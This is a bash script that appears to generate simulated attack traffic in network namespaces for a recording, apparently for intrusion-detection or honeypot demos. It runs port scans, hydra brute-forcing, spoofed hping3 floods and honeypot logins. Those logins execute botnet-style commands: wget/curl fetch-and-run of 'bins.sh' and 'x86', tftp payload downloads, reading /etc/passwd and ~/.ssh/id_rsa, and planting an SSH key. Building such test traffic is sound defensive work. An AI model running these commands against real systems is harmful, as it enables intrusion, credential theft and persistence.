# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
# The traffic. Each actor works through its own list; all of them at once, so that the recording stays varied.

: "${here:?}" "${run:?sourced by make.sh}"

seconds=${RECORDING_SECONDS:-200}

quietly() { "$@" >>"$run/attacks.log" 2>&1 || true; }

attacks_all() {
    local actors=() pid
    scanners & actors+=($!)
    guessers & actors+=($!)
    web_attackers & actors+=($!)
    intruders & actors+=($!)
    device_bots & actors+=($!)
    insiders & actors+=($!)
    mailers & actors+=($!)
    for pid in "${actors[@]}"; do wait "$pid" || true; done
}

# Ports that scanners ask for first; a short list keeps the recording's size in hand.
tcp_ports=21-25,53,80,110,111,135,139,143,161,389,443,445,465,502,554,587,631,993,995,1080,1433,1521,1723,1883,2049,2222,2375,3128,3306,3389,5000,5060,5432,5555,5900,5985,6379,7547,8000,8008,8080,8081,8443,8888,9000,9090,9200,10000,11211,27017,37215,49152,52869
udp_ports=53,67,69,111,123,137,161,389,500,514,520,1434,1900,4500,5060,5353,11211,17185,33434,47808

scanners() {
    local until=$((SECONDS + seconds)) round=0 a
    while [ $SECONDS -lt $until ]; do
        a=198.51.100.$((10 + round % 20))
        source_from scan "$a"
        case $((round % 12)) in
            0) quietly in_ns scan nmap -n -sn -PE 10.20.30.8-19 10.20.50.10 ;;
            1) quietly in_ns scan nmap -n -Pn -sS -T4 --max-retries 1 -p "$tcp_ports" 10.20.30.10-13 ;;
            2) quietly in_ns scan nmap -n -Pn -sV --version-light -T4 -p 21,22,23,25,53,80,139,443,445,3389 10.20.30.10,12,13 10.20.50.10 ;;
            3) quietly in_ns scan nmap -n -Pn -sU -T4 --max-retries 0 --host-timeout 12s -p "$udp_ports" 10.20.30.12,13 ;;
            4) quietly in_ns scan nmap -n -Pn -sC -T4 --host-timeout 25s -p 21,22,80,443,445 10.20.30.10,12,13 ;;
            5) quietly in_ns scan nmap -n -Pn -sN -T4 --max-retries 0 -p 22,23,80,443,8080 10.20.30.10-12 ;;
            6) quietly in_ns scan nmap -n -Pn -sX -T4 --max-retries 0 -p 22,23,80,443,8080 10.20.30.10-12 ;;
            7) quietly in_ns scan nmap -n -Pn -sF -T4 --max-retries 0 -p "$tcp_ports" 10.20.30.14 ;;
            8) quietly in_ns scan nmap -n -Pn -O --max-os-tries 2 -T4 -p 22,80,81 10.20.30.10,13 10.20.50.10 ;;
            9) quietly in_ns scan nmap -n -sn -PP 10.20.30.10-13
               quietly in_ns scan ike-scan --retry=2 --timeout=300 10.20.30.13 ;;
            10) source_from scan "2001:db8:a1::$((10 + round % 5))"
                quietly in_ns scan nmap -6 -n -Pn -sS -T4 --max-retries 1 -p "$tcp_ports" 2001:db8:20:30::10 2001:db8:20:30::13 ;;
            11) quietly in_ns scan nmap -n -Pn -sS -T4 --max-retries 1 -p 22,23,2222,2323,80,8080,445,3389 10.20.30.8-19 10.20.50.10 ;;
        esac
        round=$((round + 1))
    done
}

guessers() {
    local until=$((SECONDS + seconds)) round=0 users=$run/users.txt words=$run/words.txt
    printf 'root\nadmin\nubuntu\noracle\npi\ntest\n' >"$users"
    printf '123456\npassword\nadmin\n12345\nroot\nraspberry\nhai-dang\n' >"$words"
    while [ $SECONDS -lt $until ]; do
        source_from brute "198.51.100.$((140 + round % 30))"
        case $((round % 7)) in
            0) quietly in_ns brute timeout 20 hydra -I -t 4 -W 1 -L "$users" -P "$words" -c 0 ssh://10.20.30.13 ;;
            1 | 4) quietly in_ns brute timeout 25 hydra -I -t 4 -L "$users" -P "$words" ssh://10.20.50.10 ;;
            2) quietly in_ns brute timeout 12 hydra -I -t 4 -L "$users" -P "$words" http-get://10.20.30.10/quan-tri/ ;;
            3) quietly in_ns brute timeout 12 hydra -I -t 4 -L "$users" -P "$words" ftp://10.20.30.12 ;;
            5) local u; for u in admin ketoan hieutruong giamthi; do
                   quietly in_ns brute timeout 6 smbclient -s /dev/null -L //10.20.30.12 -U "$u%123456"
               done ;;
            6) source_from brute "2001:db8:a2::$((10 + round % 5))"
               quietly in_ns brute timeout 15 hydra -I -6 -t 4 -L "$users" -P "$words" 'ssh://[2001:db8:20:30::13]' ;;
        esac
        round=$((round + 1))
    done
}

sources() { local a; for a in "$@"; do printf -- '--source %s ' "$a"; done; }

web_attackers() {
    # shellcheck disable=SC2046 # lists are meant to be split
    {
        in_ns web python3 "$here/web.py" --list "$here/web-attacks.tsv" --target 10.20.30.10 --requests $((seconds * 6)) --seconds "$seconds" \
            $(sources $(range 203.0.113. 10 49)) &
        in_ns web python3 "$here/web.py" --list "$here/web-attacks.tsv" --target 2001:db8:20:30::10 --requests "$seconds" --seconds "$seconds" --seed 7 \
            $(sources $(range 2001:db8:a3:: 10 19)) &
    }
    wait
}

mailers() {
    # shellcheck disable=SC2046
    quietly in_ns out python3 "$here/mails.py" --target 10.20.30.11 --count $((seconds * 2)) --seconds "$seconds" $(sources $(range 192.88.99. 21 29))
}

insiders() { quietly in_ns cli python3 "$here/inside.py" --seconds "$seconds"; }

# One login by password to the honeypot with the stock client: pot_ssh PASSWORD OPTIONS… COMMAND
pot_opts=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=8 -F /dev/null
    -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1)
pot_ssh() { local word=$1; shift; quietly in_ns bots env HOME=/nonexistent timeout 25 sshpass -p "$word" ssh "${pot_opts[@]}" "$@"; }

# client_hello prints the first message of a real TLS handshake.
client_hello() {
    python3 -c 'import ssl, sys
context, out = ssl.create_default_context(), ssl.MemoryBIO()
try:
    context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="www.ngan-hang.example").do_handshake()
except ssl.SSLWantReadError:
    sys.stdout.buffer.write(out.read())'
}

intruders() {
    local until=$((SECONDS + seconds)) round=0 f=$run/payload
    printf '#!/bin/sh\n# harmless payload of a demo recording\n' >"$f"
    while [ $SECONDS -lt $until ]; do
        source_from bots "203.0.113.$((140 + round % 40))"
        case $((round % 13)) in
            0) pot_ssh hai-dang root@10.20.50.10 'uname -a; cat /proc/cpuinfo | grep name | wc -l; free -m; id; w' ;;
            1) pot_ssh hai-dang root@10.20.50.10 'cd /tmp; wget http://192.88.99.60/bins.sh; chmod +x bins.sh; ./bins.sh; rm -rf bins.sh' ;;
            2) pot_ssh hai-dang root@10.20.50.10 'curl -O http://192.88.99.60/x86; chmod 777 x86; ./x86; history -c' ;;
            3) pot_ssh oracle oracle@10.20.50.10 'echo "oracle:MatKhauMoi1"|chpasswd|bash; cat /etc/passwd; khong-co-lenh' ;;
            4) printf 'uname -a\nls -la /tmp\ncat /etc/passwd\ncrontab -l\necho "ssh-ed25519 AAAAC3demo bot" >> ~/.ssh/authorized_keys\nlockr -ia .ssh\nexit\n' |
                   pot_ssh hai-dang -tt root@10.20.50.10 ;;
            5) quietly in_ns bots env HOME=/nonexistent timeout 20 sshpass -p hai-dang scp -O "${pot_opts[@]}" "$f" root@10.20.50.10:/tmp/demo.sh ;;
            6) echo "put $f /tmp/xmrig" | quietly in_ns bots env HOME=/nonexistent timeout 20 sshpass -p hai-dang sftp "${pot_opts[@]}" -o BatchMode=no -b - root@10.20.50.10 ;;
            7) printf 'GET / HTTP/1.1\r\nHost: bao-moi.example\r\n\r\n' | pot_ssh hai-dang -W 192.88.99.20:80 root@10.20.50.10 ;;
            8) client_hello | pot_ssh hai-dang -W www.ngan-hang.example:443 root@10.20.50.10 ;;
            9) pot_ssh raspberry -o SetEnv=LC_DEMO=1 pi@10.20.50.10 'ls /; tftp 192.88.99.60 -c get arm7; sudo su; dd bs=22 count=1 if=/bin/ls' ;;
            10) source_from bots "2001:db8:a4::$((10 + round % 5))"
                pot_ssh hai-dang root@2001:db8:20:50::10 'wget http://tai-ve.example/mips -O /tmp/m; nproc; lspci; ps aux' ;;
            11) quietly in_ns bots env HOME=/nonexistent timeout 15 ssh -o PubkeyAuthentication=yes -o PasswordAuthentication=no \
                    "${pot_opts[@]}" -i "$run/ssh/client" root@10.20.50.10 id ;;
            12) pot_ssh ubuntu ubuntu@10.20.50.10 'wget http://10.0.0.1/internal.sh; cat ~/.ssh/id_rsa; perl -e "print 1"; python3 -c "print(1)"' ;;
        esac
        round=$((round + 1))
        sleep 1
    done
}

device_bots() {
    # shellcheck disable=SC2046
    quietly in_ns iot python3 "$here/probes.py" --seconds "$seconds" $(sources $(range 192.0.2. 140 169)) &
    local until=$((SECONDS + seconds)) round=0 a
    quietly in_ns iot python3 "$here/probes.py" --only telnet_environment --source 192.0.2.140
    while [ $SECONDS -lt $until ]; do
        a=192.0.2.$((140 + round % 30))
        source_from iot "$a"
        case $((round % 6)) in
            0) quietly in_ns iot timeout 10 snmpwalk -v2c -c public -t 1 -r 0 10.20.30.13 1.3.6.1.2.1.1
               quietly in_ns iot timeout 10 snmpget -v1 -c private -t 1 -r 0 10.20.30.13 1.3.6.1.2.1.1.5.0 ;;
            1) quietly in_ns iot timeout 3 mosquitto_sub -h 10.20.30.15 -i demo -t '#' -W 2
               quietly in_ns iot timeout 3 mosquitto_pub -h 10.20.30.15 -i demo -t den/tat -m 1 ;;
            2) (cd "$run" && quietly in_ns iot timeout 5 tftp 10.20.30.12 -c get startup-config) ;;
            3) quietly in_ns iot timeout 3 hping3 -q -I iot-up -a "$a" -S -p 80 -i u3000 -c 500 10.20.30.10 ;;
            4) quietly in_ns iot timeout 3 hping3 -q -I iot-up -a "$a" --udp -p 5060 -d 600 -i u5000 -s 4444 -k -c 250 10.20.30.15 ;;
            5) quietly in_ns iot timeout 3 hping3 -q -I iot-up -a "$a" -1 -d 200 -i u5000 -c 250 10.20.30.11 ;;
        esac
        round=$((round + 1))
        sleep 4
    done
    wait
}
